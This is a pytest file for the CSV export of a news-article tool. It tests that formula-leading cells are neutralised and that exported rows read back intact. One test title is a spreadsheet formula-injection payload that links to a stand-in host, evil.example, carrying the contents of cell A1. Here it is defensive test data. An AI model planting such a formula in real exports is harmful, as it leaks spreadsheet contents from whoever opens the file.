"""Exports: whole, and harmless in a spreadsheet."""

import csv
import io

import pytest

from articles.analysis import analyse
from articles.article import Content, Origin, Span, Version
from articles.export import COLUMNS, cell, record, write_csv
from articles.found import Found
from tests.articles.arriving import MONDAY, day


def found(title: str, text: str, *spans: Span) -> Found:
    content = Content(title, text, ("A man.",), ("Ann", "Bo"), day(MONDAY), "en")
    version = Version(
        7, 3, 1, "https://p.example/1", "p.example", content, Origin("p", "P", "GB", ("a",)),
        MONDAY, MONDAY, True, False, "new",
    )  # fmt: skip
    return Found(version, analyse(content), spans)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_formulas_are_neutralised(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell(f"1{start}1") == f"1{start}1"


def test_a_line_is_read_back_as_it_was(tmp_path: object) -> None:
    file = io.StringIO(newline="")
    title = '=HYPERLINK("https://evil.example?"&A1,"Click")\r\n"x", y'
    assert (
        write_csv([found(title, "The court sat. Nobody came.", Span("body", 4, 9)), found("b", "")], file, 52)
        == 2
    )
    header, first, second = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert tuple(header) == COLUMNS
    line = dict(zip(header, first, strict=True))
    assert line["title"] == f"'{title}"
    assert line["match"] == "The court sat."
    assert line["authors"] == "Ann; Bo"
    assert (line["version"], line["change"], line["as_of"]) == ("1", "7", "52")
    assert line["seen"] == "2026-11-23T08:00:00Z"
    assert dict(zip(header, second, strict=True))["match"] == ""


def test_a_record_says_where_it_matched() -> None:
    plain = record(found("The court", "Much else.", Span("title", 4, 9), Span("caption", 2, 5)), text=True)
    assert plain["match"] == "A man."
    assert plain["matched_in"] == ["title", "caption"]
    assert plain["spans"] == [["title", 4, 9], ["caption", 2, 5]]
    assert (plain["article"], plain["version"], plain["change"], plain["text"]) == (3, 1, 7, "Much else.")
    only_title = record(found("The court", "Much else. More.", Span("title", 4, 9)))
    assert only_title["match"].startswith("Much else.")
